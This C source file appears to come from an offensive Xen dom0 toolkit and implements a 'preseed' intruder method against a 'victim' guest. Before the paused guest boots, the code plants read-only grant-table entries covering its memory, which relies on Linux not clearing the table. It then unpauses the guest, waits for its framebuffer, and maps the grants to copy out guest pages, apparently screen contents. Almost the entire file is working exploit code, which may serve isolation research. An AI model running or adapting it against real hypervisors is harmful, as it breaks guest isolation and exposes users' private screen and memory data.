/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Grants made in the name of a guest that has not started, when its memory
 * is still dom0's to fill: Linux does not clear its table.
 */
#include "lib/intruder/method.h"

#include <errno.h>
#include <inttypes.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <time.h>
#include <xengnttab.h>

#include "lib/dom0/domain.h"
#include "lib/dom0/xenlog.h"

#define FIRST   8               /* references below are reserved */
#define ENTRIES (FBC_PAGE / sizeof(grant_entry_v1_t) - FIRST)
#define WAIT_S  60              /* for the guest's screen */

struct list {
    uint64_t *frames;
    size_t nr, cap;
};

static int note_frame(void *arg, uint64_t frame, const void *p)
{
    struct list *l = arg;

    (void)p;
    if ( l->nr == l->cap )
    {
        size_t cap = l->cap ? l->cap * 2 : 4096;
        uint64_t *more = realloc(l->frames, cap * sizeof(*more));

        if ( !more )
            return -1;
        l->frames = more;
        l->cap = cap;
    }
    l->frames[l->nr++] = frame;

    return 0;
}

/*
 * Evenly over all of the guest's memory: the screen will be somewhere.  Takes
 * the entries back unless the guest has reused them.
 */
static int seed(struct fbc_victim *t, const struct list *l, bool back)
{
    xenforeignmemory_resource_handle *h;
    grant_entry_v1_t *e;
    void *table = NULL;
    size_t i;

    h = xenforeignmemory_map_resource(t->fmem, t->domid,
                                      XENMEM_resource_grant_table,
                                      XENMEM_resource_grant_table_id_shared,
                                      0, 1, &table, PROT_READ | PROT_WRITE,
                                      0);
    if ( !h )
        return errno;
    for ( i = 0; i < ENTRIES; i++ )
    {
        uint32_t frame = (uint32_t)l->frames[i * l->nr / ENTRIES];

        e = (grant_entry_v1_t *)table + FIRST + i;
        if ( back && e->frame == frame )
            memset(e, 0, sizeof(*e));
        if ( back )
            continue;
        e->domid = 0;
        e->frame = frame;
        e->flags = GTF_permit_access | GTF_readonly;
    }
    xenforeignmemory_unmap_resource(t->fmem, h);

    return 0;
}

static void wait_screen(struct fbc_victim *t)
{
    const struct timespec step = { .tv_nsec = 200000000 };
    const struct timespec settle = { .tv_sec = 5 };
    char state[4];
    int i;

    for ( i = 0; i < WAIT_S * 5; i++ )
    {
        if ( fbc_domain_read(t->xs, t->domid, "device/vfb/0/state", state,
                             sizeof(state)) && !strcmp(state, "4") )
            break;
        nanosleep(&step, NULL);
    }
    nanosleep(&settle, NULL);
}

static void reap(struct fbc_method_run *r)
{
    xengnttab_handle *gnt = xengnttab_open(&fbc_xenlog, 0);
    uint32_t i, n = 0;
    int err = 0;

    if ( !gnt )
        return fbc_method_errno(r, errno, "grant device");
    for ( i = 0; i < ENTRIES; i++ )
    {
        void *p = xengnttab_map_grant_ref(gnt, r->t->domid, FIRST + i,
                                          PROT_READ);

        if ( !p )
        {
            err = errno ?: EINVAL;
            continue;
        }
        n++;
        if ( fbc_method_put(r, p, FBC_PAGE) )
            break;
        xengnttab_unmap(gnt, p, 1);
    }
    xengnttab_close(gnt);

    if ( n )
        fbc_method_say(r, FBC_METHOD_FRAMES, "%" PRIu32 " of %zu seeded "
                       "grants", n, ENTRIES);
    else
        fbc_method_errno(r, err, "seeded grants");
}

void fbc_method_preseed(struct fbc_method_run *r)
{
    struct list l = { 0 };
    xc_domaininfo_t info;
    int rc;

    if ( xc_domain_getinfolist(r->t->xc, r->t->domid, 1, &info) != 1 ||
         !(info.flags & XEN_DOMINF_paused) || info.cpu_time )
        return fbc_method_say(r, FBC_METHOD_NOTHING,
                              "only of a domain that has not started");

    if ( fbc_foreign_sweep(r->t, note_frame, &l) < 0 || l.nr < ENTRIES )
        fbc_method_say(r, FBC_METHOD_NOTHING, "its frames are not known");
    else if ( (rc = seed(r->t, &l, false)) )
        fbc_method_errno(r, rc, "the guest's grant table");
    else if ( xc_domain_unpause(r->t->xc, r->t->domid) )
        fbc_method_errno(r, errno, "unpause");
    else
    {
        wait_screen(r->t);
        reap(r);
        if ( seed(r->t, &l, true) && r->bytes )
            fbc_method_say(r, FBC_METHOD_FRAMES, "%" PRIu64 " pages; the "
                           "grants stay", r->bytes / FBC_PAGE);
    }
    free(l.frames);
}
